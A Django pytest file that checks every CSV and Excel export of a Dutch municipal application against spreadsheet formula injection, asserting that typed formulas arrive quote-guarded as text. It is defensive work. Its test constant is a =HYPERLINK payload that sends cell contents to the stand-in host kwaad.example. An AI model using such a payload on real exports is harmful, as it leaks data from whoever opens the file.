"""Every spreadsheet export is safe to open: a value someone typed as a formula arrives as text.

The test walks every export endpoint of the project (an endpoint whose route ends in .csv/.xlsx or whose
name says export/csv), puts an ``=HYPERLINK(...)`` into the data that export shows, downloads it and checks
that the value arrived — behind a quote — and that no cell starts with a formula character.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from samen.core import tabular
from samen.core.models import Resident, Wijk
from samen.core.tests.endpoints import walk

ATTACK = '=HYPERLINK("https://kwaad.example/?d="&A1,"Klik hier")'

# Endpoints that hold no text typed by people.
NOT_DATA = {"kwaliteit:import_example": "a fixed example file shipped with Samen"}


def _resident_export(hilversum):
    Resident.objects.filter(gemeente=hilversum).update(name=ATTACK)
    return "regisseur", reverse("core:resident_export")


def _letters(hilversum):
    from samen.vinden.visits.demo import load_visits_demo

    round_ = load_visits_demo(hilversum)["rounds"]["WK040204"]
    Resident.objects.filter(pk__in=round_.visits.values("resident")).update(name=ATTACK)
    return "regisseur", reverse("visits:round_letters_csv", args=[round_.pk])


def _catalogue(hilversum):
    from samen.kwaliteit.models import Activity
    from samen.kwaliteit.services import catalogue

    activity = catalogue.public_activities(hilversum).first()
    Activity.objects.filter(pk=activity.pk).update(title=ATTACK, contact_phone="+31 35 123 45 67")
    return None, reverse("kwaliteit:export_csv")


def _monitor(hilversum):
    from samen.weten.models import Wave
    from samen.weten.services.demo import load_monitor_demo

    if not Wave.objects.filter(gemeente=hilversum).exists():
        load_monitor_demo(hilversum, years=(2022,), n=1500)
    Wijk.objects.filter(gemeente=hilversum).update(policy_name=ATTACK)
    return "beleidsadviseur", reverse("weten:figures_csv")


def _budget(hilversum):
    from samen.samenwerken.models import BudgetLine

    BudgetLine.objects.filter(action__agenda__gemeente=hilversum, year=2025).update(funding_source=ATTACK)
    return "beleidsadviseur", reverse("samenwerken:budget_export") + "?jaar=2025"


def _outcomes(hilversum):
    from samen.kwaliteit.models import Activity

    Activity.objects.filter(gemeente=hilversum).update(title=ATTACK)  # the local evidence names activities
    return "beleidsadviseur", reverse("ondersteunen_rapportage:outcomes_csv")


EXPORTS = {
    "core:resident_export": _resident_export,
    "visits:round_letters_csv": _letters,
    "kwaliteit:export_csv": _catalogue,
    "weten:figures_csv": _monitor,
    "samenwerken:budget_export": _budget,
    "ondersteunen_rapportage:outcomes_csv": _outcomes,
}


def _looks_like_export(endpoint) -> bool:
    route = endpoint.route.rstrip("$")
    return endpoint.method == "get" and (route.endswith((".csv", ".xlsx")) or "export" in endpoint.name
                                         or "csv" in endpoint.name) and not endpoint.name.startswith("api:")


def test_every_export_endpoint_is_checked():
    found = {e.name for e in walk() if _looks_like_export(e)}
    assert found - set(NOT_DATA) == set(EXPORTS), "add the new export to EXPORTS with data that reaches it"
    assert {name.split(":")[0] for name in EXPORTS} >= {"core", "visits", "kwaliteit", "weten"}


def _cells(response) -> list[str]:
    body = response.content
    if body[:4] == b"PK\x03\x04":
        # A formula the export itself writes (core.tabular.Formula: the budget's SUM totals) is a formula
        # cell; typed text never becomes one (it is guarded), so only text cells are checked.
        from openpyxl import load_workbook

        sheet = load_workbook(io.BytesIO(body)).worksheets[0]
        return [str(c.value) for row in sheet.iter_rows() for c in row if c.value is not None and c.data_type != "f"]
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=tabular.sniff_delimiter(text)) for cell in row]


@pytest.mark.parametrize("name", sorted(EXPORTS))
def test_no_export_cell_starts_a_formula(name, hilversum, client_as, client):
    role, url = EXPORTS[name](hilversum)
    response = (client_as(role) if role else client).get(url)
    assert response.status_code == 200, response.content[:300]
    cells = _cells(response)
    assert "'" + ATTACK in cells, "the injected value must reach the export (else this test proves nothing)"
    dangerous = [c for c in cells if c[:1] in tabular.FORMULA_STARTS and not tabular.NUMBER_RE.match(c)]
    assert dangerous == []


def test_negative_numbers_stay_numbers_and_formulas_become_text():
    rows = [["-3", -2.5, "-1,25", "=1+1", "+31 35", "@SUM(A1)", "\tx", "'=x", "gewoon"]]
    [cells] = list(csv.reader(io.StringIO(tabular.write_csv(rows, bom=False)), delimiter=";"))
    assert cells == ["-3", "-2.5", "-1,25", "'=1+1", "'+31 35", "'@SUM(A1)", "'\tx", "''=x", "gewoon"]
    assert [tabular.unguard(c) for c in cells[3:]] == ["=1+1", "+31 35", "@SUM(A1)", "\tx", "'=x", "gewoon"]


def test_an_excel_export_stores_formulas_as_text():
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(tabular.write_xlsx([["naam", "getal"], [ATTACK, -3]])))
    sheet = book.worksheets[0]
    assert sheet["A2"].value == "'" + ATTACK and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -3
